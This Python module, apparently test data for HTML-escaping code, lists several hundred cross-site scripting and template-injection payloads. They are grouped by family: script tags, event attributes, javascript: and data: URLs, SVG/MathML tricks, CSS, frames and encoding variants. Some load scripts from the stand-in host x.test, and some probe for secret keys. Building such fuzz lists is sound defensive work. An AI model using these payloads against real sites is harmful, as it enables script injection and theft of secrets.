"""What people type to make a page run their code: one list for every page with their words.

``VECTORS`` are at least three hundred different texts, written out by family. Those of a
family differ in what an escaping function may treat differently: the element, the
attribute and its quotes, the case, the spelling of an address, the encoding.
"""

import re

words_in = re.compile(r"\S+").findall

CODE = "alert(1)"
EVENTS = words_in(
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend "
    "ontransitionend onpointerover onpointerenter ontoggle onbeforetoggle oncopy oncut onpaste "
    "onwheel onscroll onscrollend onresize onhashchange onpageshow onmessage onsubmit oninput "
    "onchange onkeydown oninvalid onselect onloadstart oncanplay ondrag ondrop onauxclick "
    "onbeforeinput oncontentvisibilityautostatechange onfocusin"
)
ELEMENTS = words_in(
    "a abbr address area article audio b base bdo blockquote body br button canvas center "
    "custom-x details dialog div dl embed fieldset font form frameset h1 head hr html i iframe "
    "image img input isindex kbd keygen label legend li link main map marquee menu meta noscript "
    "object ol option p picture plaintext portal pre script section select slot source span "
    "style summary svg table td template textarea th title track ul video xmp"
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style>*/alert(1)",
    "vbscript:msgbox(1)",
    "livescript:[code]",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//x.test/x.js",
    "\\\\x.test\\x",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:null/alert(1)",
    "filesystem:javascript:alert(1)",
)

_tags = [f"<{name}>x</{name}>" for name in ELEMENTS]
_elements = [f"<{name} onmouseover={CODE}>x" for name in ELEMENTS[::4]]
_attributes = [f"<img src=x {event}={CODE}>" for event in EVENTS]
_quotes = [
    *(f"{quote}><img src=x onerror={CODE}>" for quote in ('"', "'", "`", "&quot;", "&#39;", "”")),
    *(f"{quote} onfocus={CODE} autofocus x={quote}" for quote in ('"', "'", "`")),
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "*/alert(1)/*",
    "'-alert(1)-'",
    '";alert(1);//',
    "\\';alert(1);//",
    "${alert(1)}",
    "`${alert(1)}`",
]
_links = [f'<a href="{address}">x</a>' for address in ADDRESSES]
_addresses = [*ADDRESSES, *(f"[x]({address})" for address in ADDRESSES[::5])]
_scripts = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<script src=//x.test/x.js></script>",
    '<script type="module">import("//x.test")</script>',
    "<script>alert(1)",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)</script>",
    "<script>\u2028alert(1)</script>",
    "<script>/*<!--*/alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title></title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "<%00script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<script>eval('\\x61lert(1)')</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>onerror=alert;throw 1</script>",
]
_foreign = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style>*{x:expression(alert(1))}</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><handler xmlns:ev='x' ev:event='load'>alert(1)</handler></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><maction actiontype='statusline#http://x'>x</maction></math>",
    "<math><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></math>",
]
_css = [
    "<style>@import'//x.test/x.css'</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style=\"background:url('//x.test/x')\">x</div>",
    "<div style='-moz-binding:url(//x.test/x.xml#x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<link rel=stylesheet href=//x.test/x.css>",
    "<link rel=import href=//x.test>",
    "</style><script>alert(1)</script>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>",
    "*{background:red}</style>",
]
_frames = [
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//x.test/x.swf allowscriptaccess=always>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//x.test'>",
    "<base href=//x.test/>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body background=javascript:alert(1)>",
    "<table background='javascript:alert(1)'>",
    "<img src=x:x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x onerror\u3000=alert(1)>",
    "<img src='x' ''onerror=alert(1)>",
    "<img srcset='x 1x' onerror=alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<a ping=//x.test href=#>x</a>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div id=binh-luan></div>",
    "<form id=phieu action=//x.test></form>",
    "<p class=notice id=da-gui>x</p>",
    "<input name=parentNode>",
    "<a id=section><a id=section name=dataset>",
    "</li></ol></section><script>alert(1)</script>",
    "</bdi></h3></article><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
]
_encodings = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&#0000060script&#0000062alert(1)",
    "&LT;script&GT;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "\\74script\\76alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "\u227ascript\u227balert(1)",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\u212ang>x",
    "<sc\u0307ript>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "<\ufeffscript>alert(1)</script>",
    "<\u00adscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "\u200f<b>x</b>",
    "<i\u0300mg src=x onerror=alert(1)>",
    "¼script¾alert(1)¼/script¾",
    "<script>alert(1)</script>\ud800",
    "\udfff<img src=x onerror=alert(1)>",
    "\ufffe<script>alert(1)</script>",
    "\x08<script>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>",
    "\x7f<svg onload=alert(1)>",
    "\u2028<script>alert(1)</script>",
    "\x85<img src=x onerror=alert(1)>",
    "\U000e0001<script>alert(1)</script>",
]
_templates = [
    "{{ 7*7 }}",
    "{{ request.user.password }}",
    "{% debug %}",
    "{% include 'admin/base.html' %}",
    "{% load static %}{% static 'x' %}",
    "{{ settings.SECRET_KEY }}",
    "{# x #}",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "<div x-data='{}' x-init='alert(1)'>x</div>",
    "<b x-on:click='alert(1)'>x</b>",
    "<div ng-app ng-csp>{{$eval('alert(1)')}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\">x</div>",
    "<div hx-get='//x.test' hx-trigger=load>x</div>",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{7*7}}",
    "@(7*7)",
    "[[${7*7}]]",
    "%(name)s %s %d",
    "{name} {0.__class__}",
    "%n",
    "</script><!-- {{ x }} -->",
]
VECTORS: list[str] = list(
    dict.fromkeys(
        [
            *(_tags + _elements + _attributes + _quotes + _links + _addresses),
            *(_scripts + _foreign + _css + _frames + _encodings + _templates),
        ]
    )
)
